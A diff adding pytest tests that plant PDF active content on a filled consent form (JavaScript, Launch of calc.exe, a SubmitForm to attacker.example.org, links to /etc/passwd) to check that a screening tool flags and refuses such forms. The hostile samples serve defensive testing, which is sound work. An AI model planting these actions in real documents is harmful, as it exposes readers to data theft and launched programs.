@@ -1,0 +1,187 @@
+"""Issue 20, finding 4: active content in a returned form is reported, never called clear,
+and never reaches the archive's record.
+
+Each kind is put onto a real filled form with pikepdf (as an attacker would), so a new kind
+added to KINDS is checked by every test of the class.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pikepdf
+import pytest
+from pikepdf import Array, Dictionary, Name, String
+from pypdf import PdfReader
+
+from handouts.intake.active import find_active
+from handouts.intake.archive import build_record
+from handouts.intake.screen import read_form, screen_path
+
+from helpers import fill_form, run_cli
+
+IDS = ["pregnancy", "metal-allergy"]
+ALL_NO_SIGNED = {
+    **{f"contraindication.{i}": "/no" for i in IDS},
+    "consent.agree": "/Yes",
+    "patient.name": "Jane Doe",
+    "patient.signature": "Jane Doe",
+    "patient.date": "2026-12-01",
+}
+
+
+def _js(pdf: pikepdf.Pdf) -> Any:
+    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
+
+
+def _annotate(pdf: pikepdf.Pdf, annot: Dictionary) -> None:
+    page = pdf.pages[0].obj
+    if "/Annots" not in page:
+        page.Annots = Array()
+    annot.Type = Name.Annot
+    annot.Rect = Array([10, 10, 60, 20])
+    page.Annots.append(pdf.make_indirect(annot))
+
+
+def _link(action: Callable[[pikepdf.Pdf], Any]) -> Callable[[pikepdf.Pdf], None]:
+    return lambda pdf: _annotate(pdf, Dictionary(Subtype=Name.Link, A=action(pdf)))
+
+
+def _names(pdf: pikepdf.Pdf) -> Any:
+    if "/Names" not in pdf.Root:
+        pdf.Root.Names = Dictionary()
+    return pdf.Root.Names
+
+
+def _field_widget(pdf: pikepdf.Pdf, name: str) -> Any:
+    for page in pdf.pages:
+        for annot in page.obj.get("/Annots", []):
+            parent = annot.get("/Parent")
+            if str(annot.get("/T", "")) == name or (parent is not None and str(parent.get("/T", "")) == name):
+                return annot
+    raise AssertionError(name)
+
+
+def _embedded(pdf: pikepdf.Pdf) -> None:
+    spec = pikepdf.AttachedFileSpec(pdf, b"MZ not a consent form", mime_type="application/octet-stream")
+    pdf.attachments["tool.exe"] = spec
+
+
+def _outline(pdf: pikepdf.Pdf) -> None:
+    item = pdf.make_indirect(Dictionary(Title=String("Start"), A=_js(pdf)))
+    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
+    item.Parent = outlines
+    pdf.Root.Outlines = outlines
+
+
+def _set(path: tuple[str, ...], value: Callable[[pikepdf.Pdf], Any]) -> Callable[[pikepdf.Pdf], None]:
+    def put(pdf: pikepdf.Pdf) -> None:
+        target = pdf.Root
+        for key in path[:-1]:
+            target = target[key]
+        target[path[-1]] = value(pdf)
+
+    return put
+
+
+def _internal_goto(pdf: pikepdf.Pdf) -> Any:
+    return Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
+
+
+# Each kind of active content, and how an attacker puts it onto a filled form.
+KINDS: dict[str, Callable[[pikepdf.Pdf], None]] = {
+    "document JavaScript": lambda pdf: _names(pdf).__setitem__(
+        "/JavaScript", Dictionary(Names=Array([String("x"), _js(pdf)]))
+    ),
+    "OpenAction JavaScript": _set(("/OpenAction",), _js),
+    "OpenAction Launch": _set(("/OpenAction",), lambda pdf: Dictionary(S=Name.Launch, F=String("calc.exe"))),
+    "OpenAction to another file": _set(
+        ("/OpenAction",),
+        lambda pdf: Dictionary(S=Name.GoToR, F=String("/etc/passwd"), D=Array([0, Name.Fit])),
+    ),
+    "catalog /AA": _set(("/AA",), lambda pdf: Dictionary(WC=_js(pdf))),
+    "page /AA": lambda pdf: pdf.pages[0].obj.__setitem__("/AA", Dictionary(O=_js(pdf))),
+    "field /AA": lambda pdf: _field_widget(pdf, "name").__setitem__("/AA", Dictionary(K=_js(pdf))),
+    "widget SubmitForm": lambda pdf: _field_widget(pdf, "name").__setitem__(
+        "/A", Dictionary(S=Name.SubmitForm, F=String("https://attacker.example.org/"))
+    ),
+    "link ImportData": _link(lambda pdf: Dictionary(S=Name.ImportData, F=String("answers.fdf"))),
+    "link GoToR": _link(lambda pdf: Dictionary(S=Name.GoToR, F=String("../../secret.pdf"), D=Array([0]))),
+    "link GoToE": _link(lambda pdf: Dictionary(S=Name.GoToE, D=Array([0, Name.Fit]))),
+    "link Launch": _link(lambda pdf: Dictionary(S=Name.Launch, F=String("calc.exe"))),
+    "link javascript: URI": _link(lambda pdf: Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)"))),
+    "link file: URI": _link(lambda pdf: Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
+    "link GoTo then JavaScript": _link(lambda pdf: Dictionary(**_internal_goto(pdf), Next=_js(pdf))),
+    "XFA": _set(("/AcroForm", "/XFA"), lambda pdf: pdf.make_stream(b"<xdp:xdp/>")),
+    "embedded file": _embedded,
+    "file attachment annotation": lambda pdf: _annotate(pdf, Dictionary(Subtype=Name.FileAttachment)),
+    "screen annotation": lambda pdf: _annotate(pdf, Dictionary(Subtype=Name.Screen, A=_js(pdf))),
+    "widget of no field": lambda pdf: _annotate(
+        pdf, Dictionary(Subtype=Name.Widget, FT=Name.Tx, T=String("extra"), V=String("x"))
+    ),
+    "outline JavaScript": _outline,
+}
+
+
+@pytest.fixture(scope="module")
+def filled(module_built: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    form = module_built / "out/tiny/en/tiny-consent-fillable.pdf"
+    return fill_form(form, tmp_path_factory.mktemp("active") / "filled.pdf", ALL_NO_SIGNED)
+
+
+def hostile(filled: Path, dest: Path, kind: str) -> Path:
+    with pikepdf.open(filled) as pdf:
+        KINDS[kind](pdf)
+        pdf.save(dest)
+    return dest
+
+
+class TestActiveContent:
+    @pytest.mark.parametrize("kind", list(KINDS))
+    def test_screen_calls_it_tampered_and_names_it(
+        self, module_built: Path, filled: Path, tmp_path: Path, kind: str
+    ) -> None:
+        path = hostile(filled, tmp_path / "form.pdf", kind)
+        code, out, err = run_cli(module_built, "screen", str(path))
+        assert code == 5, (out, err)
+        assert "TAMPERED" in out and "carries what a filled consent form never does" in out + err
+        code, out, _ = run_cli(module_built, "screen", "--json", str(path))
+        data = json.loads(out)
+        assert data["status"] == "tampered" and data["active_content"], data
+        assert all(item in data["error"] for item in data["active_content"])
+
+    @pytest.mark.parametrize("kind", list(KINDS))
+    def test_archive_refuses_it(self, module_built: Path, filled: Path, tmp_path: Path, kind: str) -> None:
+        path = hostile(filled, tmp_path / "form.pdf", kind)
+        code, _, err = run_cli(module_built, "archive", str(path))
+        assert code == 5 and "not archived" in err, err
+        assert not (tmp_path / "form-archive.pdf").exists()
+
+    @pytest.mark.parametrize("kind", list(KINDS))
+    def test_the_record_keeps_none_of_it(self, filled: Path, tmp_path: Path, kind: str) -> None:
+        # Should a verdict let such a form be archived, its record still carries none of it.
+        path = hostile(filled, tmp_path / "form.pdf", kind)
+        info = read_form(path)[0]
+        record, _, drawn = build_record(path.read_bytes(), None, info, None)
+        assert drawn == build_record(filled.read_bytes(), None, info, None)[2]  # every answer drawn
+        reader = PdfReader(io.BytesIO(record))
+        # The one embedded file is the original form, as it came (README says so).
+        assert list(reader.attachments) == ["tiny-consent-filled.pdf"]
+        assert reader.attachments["tiny-consent-filled.pdf"][0] == path.read_bytes()
+        assert find_active(reader.trailer["/Root"]) == ["embedded files"]
+        assert all("/Annots" not in page or not page["/Annots"] for page in reader.pages)
+
+
+def test_a_genuine_form_with_web_and_internal_links_stays_clear(
+    module_built: Path, filled: Path, tmp_path: Path
+) -> None:
+    with pikepdf.open(filled) as pdf:
+        _link(lambda pdf: Dictionary(S=Name.URI, URI=String("https://example.org/")))(pdf)
+        _link(_internal_goto)(pdf)
+        pdf.save(tmp_path / "links.pdf")
+    assert screen_path(tmp_path / "links.pdf", module_built).status == "clear"
+    assert screen_path(filled, module_built).active_content == []
